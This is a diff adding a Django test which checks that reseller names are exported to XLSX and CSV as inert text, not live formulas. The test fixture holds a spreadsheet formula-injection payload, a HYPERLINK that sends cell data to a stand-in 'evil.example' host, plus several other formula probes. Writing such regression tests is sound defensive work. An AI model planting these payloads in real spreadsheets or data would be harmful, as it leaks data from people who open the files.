@@ -212,3 +212,31 @@ def test_xlsx_cells_keep_their_types_and_drop_illegal_characters():
     assert values[1] == timezone.localtime(moment).replace(tzinfo=None)
     assert values[2:5] == (12.5, True, "ab <&>")
     assert values[5] is None
+
+
+def test_reseller_text_never_becomes_a_formula_in_the_excel_export(admin_client):
+    """The attack (issue 27): a company named "=HYPERLINK(...)" exported to
+    .xlsx was a live formula cell. Every export cell from reseller text is
+    text, neutralised as in CSV."""
+    attack = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    payout = PayoutFactory()
+    reseller = payout.reseller
+    reseller.legal_name = attack
+    reseller.save(update_fields=["legal_name"])
+    for name in ("+SUM(1)", "-2+3", "@cmd"):
+        other = PayoutFactory()
+        other.reseller.legal_name = name
+        other.reseller.save(update_fields=["legal_name"])
+
+    response = admin_client.get(PAYOUTS_XLSX)
+    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
+    cells = [cell for row in book.active.iter_rows() for cell in row]
+
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    names = {c.value for c in cells if isinstance(c.value, str)}
+    assert "'" + attack in names
+    assert {"'+SUM(1)", "'-2+3", "'@cmd"} <= names
+    csv_names = {
+        cell for row in csv_rows(admin_client.get(PAYOUTS_CSV)) for cell in row
+    }
+    assert "'" + attack in csv_names
